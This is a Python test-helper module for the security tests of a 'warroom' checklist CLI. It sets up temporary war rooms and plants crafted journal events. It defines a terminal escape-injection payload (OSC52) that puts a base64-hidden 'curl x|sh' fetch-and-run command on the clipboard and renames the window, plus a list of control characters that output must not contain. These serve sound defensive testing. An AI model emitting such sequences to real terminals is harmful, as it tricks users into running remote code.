"""Helpers for the security corpus (a uniquely named module, so imports never pick another area's).

``make_room`` writes a small war room (a layout, one checklist, a journal path) into a
temporary directory; ``Room.cli`` runs ``warroom`` in-process through ``warroom.cli.main`` and
returns ``(exit code, stdout, stderr)``; ``Room.proc`` runs it as a real process. Hostile text
is planted in the journal with ``Room.plant``: a correctly hashed event, as an old journal or a
hand-written one would carry it.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from warroom.cli import main
from warroom.events import GENESIS
from warroom.journal import HEADER, encode_event

REPO = Path(__file__).resolve().parents[2]
ESC = "\x1b"
# Everything a terminal must never receive raw (ESC alone starts every CSI/OSC/DCS sequence).
RAW = ("\x1b", "\x07", "\x9b", "\x9d", "\u202e", "\u2066", "\u200b", "\x00", "\x7f", "\r")
OSC52 = "x \x1b]52;c;Y3VybCB4fHNo\x07\x1b]0;OWNED\x07"  # sets the clipboard to 'curl x|sh', renames the window

CHECKLIST = """\
id: app
title: App launch
sections:
  - id: pre
    title: Pre-launch
    items:
      - {id: load-test, text: Load test passed, owner: Ops, critical: true}
      - {id: backup, text: Backup taken}
"""

LAYOUT = """\
launch: App v2
timezone: UTC
checklists: [../checklists/app.yaml]
phases:
  - {mark: T-1h, name: Final hour}
  - {mark: T-0, name: Launch}
roles:
  - {name: CTO, person: Ana}
  - {name: Ops, person: Bo}
criteria:
  - {id: load-ok, name: Load test signed}
"""


def no_raw(*texts: str) -> None:
    """None of ``texts`` carries a character a terminal would act on."""
    for text in texts:
        for ch in RAW:
            assert ch not in text, f"raw {ch!r} in output: {text[:300]!r}"


@dataclass
class Room:
    root: Path
    layout: Path
    journal: Path
    capsys: pytest.CaptureFixture[str]

    def cli(self, *argv: str) -> tuple[int, str, str]:
        self.capsys.readouterr()
        code = main([str(a) for a in argv])
        out, err = self.capsys.readouterr()
        return code, out, err

    def proc(self, *argv: str, env: dict[str, str] | None = None, stdin: Any = subprocess.DEVNULL,
             timeout: float = 60) -> subprocess.CompletedProcess[bytes]:
        full = {**os.environ, **(env or {})}
        return subprocess.run([sys.executable, "-m", "warroom", *map(str, argv)], cwd=self.root, env=full,
                              stdin=stdin, capture_output=True, timeout=timeout)

    def events(self) -> list[dict[str, Any]]:
        if not self.journal.exists():
            return []
        return [json.loads(line[2:]) for line in self.journal.read_text(encoding="utf-8").splitlines() if line.startswith("- {")]

    def plant(self, *events: tuple[str, str, dict[str, Any]], op: str = "mallory", ts: str = "2026-01-01T00:00:00.000Z") -> None:
        """Append correctly hashed events ``(kind, target, payload)`` as a hand-written journal would."""
        existing = self.events()
        seq = existing[-1]["seq"] if existing else 0
        prev = existing[-1]["hash"] if existing else GENESIS
        lines = []
        for kind, target, payload in events:
            seq += 1
            line, prev = encode_event(seq, ts, op, kind, target, payload, prev)
            lines.append(line)
        with open(self.journal, "a", encoding="utf-8") as f:
            f.write(("" if f.tell() else HEADER) + "".join(lines))

    def plant_raw(self, *bodies: dict[str, Any]) -> None:
        """Append events written field by field (any type), each hashed so that only its shape is wrong."""
        import hashlib

        existing = self.events()
        prev = existing[-1]["hash"] if existing else GENESIS
        lines = []
        for body in bodies:
            body = {**body, "prev": prev}
            text = "- " + json.dumps(body, ensure_ascii=False)[:-1]
            prev = hashlib.sha256(text.encode()).hexdigest()
            lines.append(f'{text}, "hash": "{prev}"}}\n')
        with open(self.journal, "a", encoding="utf-8") as f:
            f.write(("" if f.tell() else HEADER) + "".join(lines))


def make_room(tmp: Path, capsys: pytest.CaptureFixture[str], layout: str = LAYOUT, checklist: str = CHECKLIST) -> Room:
    (tmp / "layouts").mkdir(exist_ok=True)
    (tmp / "checklists").mkdir(exist_ok=True)
    (tmp / "checklists" / "app.yaml").write_text(checklist, encoding="utf-8")
    path = tmp / "layouts" / "app.yaml"
    path.write_text(layout, encoding="utf-8")
    return Room(tmp, path, tmp / "layouts" / "app.journal.yaml", capsys)
